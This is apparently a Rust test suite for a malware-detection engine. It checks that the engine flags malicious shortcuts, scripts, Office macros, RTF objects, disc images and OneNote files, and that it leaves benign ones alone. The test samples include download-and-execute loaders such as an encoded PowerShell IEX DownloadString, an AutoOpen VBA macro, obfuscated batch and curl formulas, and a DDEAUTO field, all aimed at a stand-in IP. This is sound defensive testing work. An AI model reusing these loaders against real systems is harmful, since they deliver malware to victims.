//! Shortcuts, documents and scripts through the whole engine: what is carried, what is found, and the ordinary life that
//! is left alone.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a test"
)]

use watchfire_analysis::{Analysis, Engine, Settings};
use watchfire_model::{Artifact, Hints, Origin};
use watchfire_testkit::archive::Zip;
use watchfire_testkit::encode::{base64, utf16le};
use watchfire_testkit::shortcut::{Link, internet_shortcut};
use watchfire_testkit::{disc, office, rich_text};

fn analyze(name: &str, bytes: &[u8]) -> Analysis {
    let engine = Engine::new(Settings::default());
    let hints = Hints {
        name: Some(name.into()),
        ..Hints::default()
    };
    engine.analyze(Artifact::new(bytes, Origin::root(name), hints), &engine.budget())
}

/// Findings as `rule weight`, children by their names, and values that must have been seen.
#[track_caller]
fn check(name: &str, bytes: &[u8], findings: &[(&str, u16)], children: &[&str], seen: &[&str]) -> Analysis {
    let analysis = analyze(name, bytes);
    let found: Vec<(&str, u16)> = analysis
        .findings
        .iter()
        .map(|finding| (finding.rule.0, finding.weight.thousandths()))
        .collect();
    assert_eq!(found, findings, "{name}: {:#?}", analysis.findings);
    let root = format!("{name} ▸ ");
    let carried: Vec<&str> = analysis
        .artifacts
        .iter()
        .filter_map(|artifact| artifact.path.raw().strip_prefix(&root))
        .collect();
    assert_eq!(carried, children, "{name}");
    let values: Vec<&str> = analysis
        .artifacts
        .iter()
        .flat_map(|artifact| &artifact.observables)
        .map(|seen| seen.observable.raw())
        .collect();
    for value in seen {
        assert!(values.contains(value), "{name}: no '{value}' in {values:?}");
    }
    let panics: Vec<_> = analysis
        .diagnostics
        .iter()
        .filter(|said| said.code.ends_with("-panic"))
        .collect();
    assert!(panics.is_empty(), "{panics:?}");
    analysis
}

const LOADER: &str = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/a.ps1')";

#[test]
fn a_shortcut_with_an_encoded_command_is_taken_apart() {
    let command = format!("-nop -w hidden -e {}", base64(&utf16le(LOADER)));
    let link = Link::new()
        .to("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
        .arguments(&command)
        .machine("desktop-a1", [0, 0xc, 0x29, 1, 2, 3])
        .build();
    check(
        "Invoice.lnk",
        &link,
        &[("shortcut-runs-interpreter", 600), ("script-downloads-and-runs", 600)],
        &["command-1.ps1"],
        &["http://203.0.113.66/a.ps1"],
    );
}

#[test]
fn arguments_behind_blanks_are_found() {
    let padded = format!("{}/c start https://example.org/x.exe", " ".repeat(300));
    let link = Link::new()
        .to("C:\\Windows\\System32\\cmd.exe")
        .arguments(&padded)
        .build();
    check(
        "Invoice.lnk",
        &link,
        &[("shortcut-runs-interpreter", 200), ("shortcut-hidden-arguments", 600)],
        &[],
        &["https://example.org/x.exe"],
    );
}

#[test]
fn shortcuts_to_shares_of_other_networks_are_found() {
    let link = Link::new().to_share("\\\\203.0.113.66\\webdav", "tool.exe").build();
    check("a.lnk", &link, &[("shortcut-remote-file", 500)], &[], &[]);
    let url = internet_shortcut("file://203.0.113.66/share/a.exe", "");
    check("a.url", &url, &[("shortcut-remote-file", 500)], &[], &[]);
    let icon = internet_shortcut("https://www.example.org/", "\\\\203.0.113.66\\a\\b.ico");
    check("a.url", &icon, &[("shortcut-remote-file", 450)], &[], &[]);
}

#[test]
fn ordinary_shortcuts_say_nothing() {
    let word = Link::new()
        .to("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE")
        .icon("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE")
        .build();
    check("Word.lnk", &word, &[], &[], &[]);
    let share = Link::new().to_share("\\\\files01\\projects", "plan.xlsx").build();
    check("plan.lnk", &share, &[], &[], &[]);
    let site = internet_shortcut("https://www.example.org/", "C:\\Windows\\System32\\url.dll");
    check("site.url", &site, &[], &[], &[]);
    let tool = Link::new()
        .to("C:\\Windows\\System32\\cmd.exe")
        .arguments("/k C:\\tools\\env.cmd")
        .build();
    check("prompt.lnk", &tool, &[("shortcut-runs-interpreter", 200)], &[], &[]);
}

#[test]
fn what_stands_behind_a_link_is_an_artifact() {
    let page = b"<html><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>".repeat(20);
    let link = Link::new()
        .to("C:\\Windows\\System32\\mshta.exe")
        .arguments("a.lnk")
        .behind(&page)
        .build();
    check(
        "a.lnk",
        &link,
        &[
            ("shortcut-runs-interpreter", 200),
            ("shortcut-hidden-arguments", 400),
            ("document-script-page", 200),
        ],
        &["behind the link"],
        &[],
    );
}

#[test]
fn scripts_that_hide_what_they_load_are_found() {
    let hidden = "$u='http://203.0.113.66/x';&([char]105+[char]101+[char]120)((New-Object ('Net.We'+'bClient')).('Downlo'+'adString').Invoke($u))";
    check(
        "a.ps1",
        hidden.as_bytes(),
        &[("script-downloads-and-runs", 250), ("script-hides-words", 500)],
        &[],
        &["http://203.0.113.66/x"],
    );
    let batch = "@set a=erpowshell\r\n%a:~2,3%%a:~0,2%%a:~5,5% -w hidden -c \"iwr http://203.0.113.66/x -o x.exe; start x.exe\"\r\n";
    check(
        "a.cmd",
        batch.as_bytes(),
        &[("script-downloads-and-runs", 500), ("script-hides-words", 500)],
        &[],
        &["http://203.0.113.66/x"],
    );
}

#[test]
fn scripts_of_administrators_are_left_alone() {
    for (name, script) in [
        (
            "a.ps1",
            "# Restarts the spooler\nStop-Service Spooler\nStart-Service Spooler\n",
        ),
        (
            "b.cmd",
            "@echo off\r\nset SRC=%~dp0\r\nxcopy /e \"%SRC%files\" C:\\tools\r\n%COMSPEC% /c exit\r\n",
        ),
        (
            "c.js",
            "var x=new XMLHttpRequest();x.open('GET','/a');x.send();eval('1');/a/.exec('a');",
        ),
        (
            "d.vbs",
            "Set fso = CreateObject(\"Scripting.FileSystemObject\")\nMsgBox fso.FolderExists(\"C:\\a\")\n",
        ),
    ] {
        check(name, script.as_bytes(), &[], &[], &[]);
    }
    check(
        "setup.ps1",
        b"Invoke-WebRequest https://www.example.org/a.msi -OutFile a.msi\nStart-Process msiexec.exe -Wait\n",
        &[("script-downloads-and-runs", 250)],
        &[],
        &[],
    );
}

#[test]
fn encoded_scripts_of_windows_are_decoded() {
    let text = "#@~^DgAAAA==\\ko$K6,JC\u{7f}V^GJqAQAAA==^#~@";
    let analysis = check(
        "a.vbe",
        text.as_bytes(),
        &[("script-hides-words", 350)],
        &["decoded.vbs"],
        &[],
    );
    assert_eq!(analysis.artifacts.len(), 2);
}

const LOADING: &str = "Sub AutoOpen()\nDim o: Set o = CreateObject(\"MSXML2.XMLHTTP\")\no.Open \"GET\", \"http://203.0.113.66/a\", False\nShell \"cmd /c x.exe\", vbHide\nEnd Sub\n";
const HARMLESS: &str = "Sub Total()\nActiveSheet.Range(\"A1\").Value = 1\nEnd Sub\n";

#[test]
fn macros_of_old_and_new_documents_are_read() {
    for (name, bytes, prefix) in [
        (
            "a.doc",
            office::doc("", &[("ThisDocument", LOADING), ("Module1", HARMLESS)]),
            "",
        ),
        (
            "a.docm",
            office::docm("x", &[("ThisDocument", LOADING), ("Module1", HARMLESS)]),
            "word/vbaProject.bin ▸ ",
        ),
    ] {
        let modules = [format!("{prefix}ThisDocument.vba"), format!("{prefix}Module1.vba")];
        let mut children: Vec<&str> = modules.iter().map(String::as_str).collect();
        if !prefix.is_empty() {
            children.insert(0, "word/vbaProject.bin");
        }
        let analysis = check(
            name,
            &bytes,
            &[("document-active-content", 250), ("document-macro-runs", 600)],
            &children,
            &["http://203.0.113.66/a"],
        );
        let finding = &analysis.findings[1];
        assert_eq!(
            finding.title,
            format!("'{name}': a macro that begins by itself (AutoOpen) loads and runs something")
        );
        assert_eq!(finding.evidence().len(), 3);
    }
}

#[test]
fn ordinary_macros_weigh_little() {
    let bytes = office::docm(
        "x",
        &[
            (
                "ThisDocument",
                "Private Sub Document_Open()\nMsgBox \"Welcome\"\nEnd Sub\n",
            ),
            ("Module1", HARMLESS),
        ],
    );
    check(
        "form.docm",
        &bytes,
        &[("document-active-content", 250)],
        &[
            "word/vbaProject.bin",
            "word/vbaProject.bin ▸ ThisDocument.vba",
            "word/vbaProject.bin ▸ Module1.vba",
        ],
        &[],
    );
}

#[test]
fn sources_are_exact_whatever_their_length() {
    let long: String = (0..3_000)
        .map(|line| format!("' line {line} {}\n", line * 7919 % 1000))
        .collect();
    let project = office::vba_project(&[("Module1", &long)]);
    let analysis = analyze("vbaProject.bin", &project);
    let expected = format!("Attribute VB_Name = \"Module1\"\r\n{}", long.replace('\n', "\r\n"));
    assert_eq!(analysis.artifacts[1].size, expected.len() as u64);
    assert_eq!(
        analysis.artifacts[1].sha256,
        Some(watchfire_model::ArtifactId::of(expected.as_bytes()))
    );
}

#[test]
fn formulas_of_excel_4_macros_are_read() {
    let bytes = office::xls_macros(
        "Macro1",
        &[(110, &["cmd /c curl http://203.0", ".113.66/a"]), (54, &[])],
    );
    check(
        "a.xls",
        &bytes,
        &[("document-active-content", 250), ("document-macro-runs", 600)],
        &[],
        &["http://203.0.113.66/a"],
    );
}

#[test]
fn embedded_packages_are_artifacts() {
    let bytes = office::package("Invoice.js", b"new ActiveXObject('WScript.Shell').Run('calc.exe')");
    check("oleObject1.bin", &bytes, &[], &["Invoice.js"], &[]);
}

#[test]
fn commands_of_old_fields_are_found() {
    let bytes = office::doc(
        "\u{13} DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" \u{14}x\u{15}",
        &[],
    );
    check("a.doc", &bytes, &[("document-active-content", 500)], &[], &[]);
}

#[test]
fn objects_of_rich_text_are_artifacts() {
    let package = rich_text::package("Invoice.vbs", LOADING_SCRIPT.as_bytes());
    check(
        "a.rtf",
        &rich_text::document("see https://www.example.org/", &[package], true),
        &[("document-active-content", 350), ("script-downloads-and-runs", 250)],
        &["Invoice.vbs"],
        &["https://www.example.org/", "http://203.0.113.66/a"],
    );
    let equation = [&[0; 33][..], &[10, 1, 8, 0x5a, 0x5a], &[b'a'; 60]].concat();
    let bytes = rich_text::document("x", &[rich_text::ole1("Equation.3", &equation)], false);
    check("a.doc", &bytes, &[("document-active-content", 600)], &["object 1"], &[]);
    let template = b"{\\rtf1{\\*\\template http://203.0.113.66/a.dotm}text}";
    check(
        "a.rtf",
        template,
        &[("document-active-content", 500)],
        &[],
        &["http://203.0.113.66/a.dotm"],
    );
    check(
        "letter.rtf",
        &rich_text::document("Dear all", &[], false),
        &[],
        &[],
        &[],
    );
}

const LOADING_SCRIPT: &str = "Set o = CreateObject(\"MSXML2.XMLHTTP\")\no.Open \"GET\", \"http://203.0.113.66/a\", False\nCreateObject(\"WScript.Shell\").Run \"a.exe\"\n";

#[test]
fn discs_are_opened() {
    let file = |name, bytes, hidden| disc::File { name, bytes, hidden };
    let link = Link::new()
        .to("C:\\Windows\\System32\\rundll32.exe")
        .arguments("a.dll,Start")
        .build();
    let image = disc::iso(&[
        file("Invoice of November.lnk", &link, false),
        file("a.dll", b"MZ no program", true),
        file("r\u{e9}sum\u{e9}.txt", b"203.0.113.66", false),
    ]);
    let analysis = check(
        "Invoice.iso",
        &image,
        &[("archive-runnable-member", 400), ("shortcut-runs-interpreter", 200)],
        &["Invoice of November.lnk", "a.dll", "r\u{e9}sum\u{e9}.txt"],
        &["203.0.113.66"],
    );
    assert!(analysis.artifacts[0].read);
    let hidden = disc::iso(&[file("run.js", b"WScript.Echo(1)", true)]);
    check("a.iso", &hidden, &[("archive-runnable-member", 550)], &["run.js"], &[]);
}

#[test]
fn files_in_notebooks_come_out_with_their_names() {
    let page = b"<html><hta:application id=a><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>";
    let bytes = disc::notebook(
        "Click to view https://www.example.org/",
        &[("Open.hta", page), ("note.txt", b"203.0.113.66")],
    );
    check(
        "a.one",
        &bytes,
        &[("archive-runnable-member", 600)],
        &["Open.hta", "note.txt"],
        &["https://www.example.org/", "203.0.113.66"],
    );
}

#[test]
fn cut_and_flipped_samples_keep_the_promises() {
    let names = ["shortcut", "script", "old_office", "rich_document", "disc", "notebook"];
    let targets = watchfire_testkit::fuzz::TARGETS
        .iter()
        .filter(|target| names.contains(&target.name));
    let mut tried = 0;
    for target in targets {
        for seed in (target.seeds)() {
            let step = seed.len() / 150 + 1;
            for length in (0..seed.len()).step_by(step) {
                (target.run)(&seed[..length]);
                tried += 1;
            }
            for at in (0..seed.len() * 8).step_by(step * 8 + 3) {
                let mut flipped = seed.clone();
                flipped[at / 8] ^= 1 << (at % 8);
                (target.run)(&flipped);
                tried += 1;
            }
        }
    }
    assert!(tried > 3_000, "{tried}");
}

#[test]
fn formulas_of_binary_workbooks_are_read() {
    let wide = |text: &str| -> Vec<u8> { utf16le(text) };
    let text = "cmd /c curl http://203.0.113.66/a";
    let tokens = [
        &[0x17][..],
        &(text.len() as u16).to_le_bytes(),
        &wide(text),
        &[0x42, 1, 110, 0],
    ]
    .concat();
    let cell = [
        &[0; 8][..],
        &[0; 8],
        &[0; 2],
        &(tokens.len() as u32).to_le_bytes(),
        &tokens,
    ]
    .concat();
    let sheet = [&[0, 4, 0, 0, 0, 0, 9, cell.len() as u8][..], &cell].concat();
    let bytes = Zip::new()
        .file(
            "[Content_Types].xml",
            b"<Types><Override PartName='/xl/workbook.bin' ContentType='application/vnd.ms-excel.sheet.binary.macroEnabled.main'/></Types>",
        )
        .file(
            "_rels/.rels",
            b"<Relationships><Relationship Id='a' Type='x/officeDocument' Target='xl/workbook.bin'/></Relationships>",
        )
        .file("xl/workbook.bin", &wide("_xlnm.Auto_Open"))
        .file("xl/macrosheets/sheet1.bin", &sheet)
        .build();
    check(
        "a.xlsb",
        &bytes,
        &[("document-active-content", 250), ("document-macro-runs", 600)],
        &["xl/workbook.bin", "xl/macrosheets/sheet1.bin"],
        &["http://203.0.113.66/a"],
    );
}

#[test]
fn macros_of_old_presentations_are_read() {
    let project = office::vba_project(&[("Module1", LOADING)]);
    let packed = watchfire_testkit::archive::zlib(&project);
    let mut slides = vec![0x10, 0, 0x11, 0x10];
    slides.extend((packed.len() as u32 + 4).to_le_bytes());
    slides.extend((project.len() as u32).to_le_bytes());
    slides.extend(packed);
    let node = watchfire_testkit::compound::Node::Stream("PowerPoint Document".to_owned(), slides);
    check(
        "a.ppt",
        &watchfire_testkit::compound::compound(&[node]),
        &[("document-active-content", 250), ("document-macro-runs", 600)],
        &["object", "object ▸ Module1.vba"],
        &["http://203.0.113.66/a"],
    );
}
